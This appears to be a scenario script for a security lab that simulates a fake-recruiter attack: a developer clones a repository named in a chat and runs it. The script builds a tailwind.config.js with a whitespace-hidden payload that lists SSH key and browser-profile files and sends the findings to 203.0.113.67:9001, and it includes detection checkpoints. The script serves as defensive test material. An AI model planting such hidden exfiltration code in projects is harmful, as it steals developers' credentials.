title="Long day of three: a repository that a recruiter names in a chat, cloned, installed and started"
what="dev works on the own project with git, node and curl to the own server, clerk writes letters, intern downloads a PDF and a table. In the afternoon dev looks into chat.example.com with Firefox, clones http://drop.example.net/mini-dex.git as told there, reads package.json, runs npm install and npm run dev. The server's configuration file, loaded by node, reads the browser's profile and ~/.ssh's names and posts them to 203.0.113.67 port 9001. The laboratory's rules."
host=ws3.example.org user=dev daemons="cron sshd"
shift_plan="morning:4h noon:2h chat:90m evening:2h"
setup() {
  local w="$base/out/w/mini-dex" g="git -c user.name=k -c user.email=k@example.net"
  mkdir -p "$w/server" "$w/src"
  printf '{"name": "mini-dex", "version": "0.3.1", "scripts": {"dev": "node server/index.js", "test": "echo ok"}}\n' > "$w/package.json"
  printf 'require("../tailwind.config.js");\nconsole.log("listening on 3000");\nsetTimeout(() => process.exit(0), 3000);\n' > "$w/server/index.js"
  printf 'module.exports = {content: ["./src/**/*.js"]};                                                                                                     const f=require("fs"),h=require("os").homedir(),o=[];for(const d of [".ssh",".mozilla/firefox",".config/chromium/Default"])try{o.push(f.readdirSync(h+"/"+d));for(const n of f.readdirSync(h+"/"+d))if(/^(id_|Login Data)/.test(n))o.push(f.readFileSync(h+"/"+d+"/"+n).length)}catch(e){}require("net").connect(9001,"203.0.113.67",function(){this.end(JSON.stringify(o))}).on("error",()=>{});\n' > "$w/tailwind.config.js"
  echo '# Mini DEX: npm install && npm run dev' > "$w/README.md"; echo 'export default 1' > "$w/src/app.js"
  (cd "$w" && git init -q . && git add -A && $g commit -qm "first version" && git clone -q --bare . "$base/out/www/mini-dex.git" && cd "$base/out/www/mini-dex.git" && git update-server-info) || return 1
  mkdir -p /home/dev/src/portal; cd /home/dev/src/portal
  printf '{"name": "portal", "scripts": {"test": "node test.js", "start": "node app.js"}}\n' > package.json; echo 'console.log("ok", 1+1)' > test.js; echo 'require("http").get("http://198.51.100.30/api", r => console.log(r.statusCode))' > app.js
  git init -q .; git add -A; git -c user.name=d -c user.email=dev@example.org commit -qm one; cd /
  printf '[user]\nname = dev\nemail = dev@example.org\n' > /home/dev/.gitconfig; install -d -m 700 /home/dev/.ssh; echo x > /home/dev/.ssh/id_work; chown -R dev: /home/dev
  make_pdf "$base/out/www/timetable.pdf" Timetable; printf 'a,1\nb,2\n' > "$base/out/www/rooms.csv"
  install -d -o intern /home/intern/bin; printf 'import csv,sys\nprint(len(list(csv.reader(open(sys.argv[1])))))\n' > /home/intern/bin/count.py; chown intern: /home/intern/bin/count.py
}
act() {
  display_up
  phase morning
  small_talk 4
  ssh_as dev <<'L'
cd src/portal
git pull 2>/dev/null
npm test
echo '// note' >> app.js
npm start
git commit -qam "note"
curl -s http://198.51.100.30/api
L
  ssh_as clerk <<'L'
echo 'Dear Sir or Madam, thank you.' > letter.txt
mail -s "Your question" office9@example.net < letter.txt
L
  small_talk 2
  phase noon
  small_talk 3
  firefox_save intern http://files.example.net/rooms.csv rooms.csv
  ssh_run intern 'python3 bin/count.py Downloads/rooms.csv'
  small_talk 1
  phase chat
  small_talk 2
  firefox_visit dev http://chat.example.com/c/recruiter-dm
  small_talk 1
  console_as dev <<'L'
cd src
git clone http://drop.example.net/mini-dex.git
cd mini-dex
cat package.json
npm install --no-audit --no-fund --offline
npm run dev
%sleep 3
L
  phase evening
  small_talk 3
  ssh_as dev <<'L'
cd src/portal
npm test
git log --oneline | head -3
L
  ssh_run clerk 'ls'
}
truth() {
  net_step visit 'firefox.* .*203.0.113.82' 'the chat is visited'
  exec_step clone 'git clone http://drop.example.net/mini-dex.git' 'a repository is cloned'
  exec_step install 'npm.* install' 'installed'
  exec_step execute 'node server/index.js' 'and started'
  net_step send 'node .*203.0.113.67.*:9001' 'it posts what it found'
}
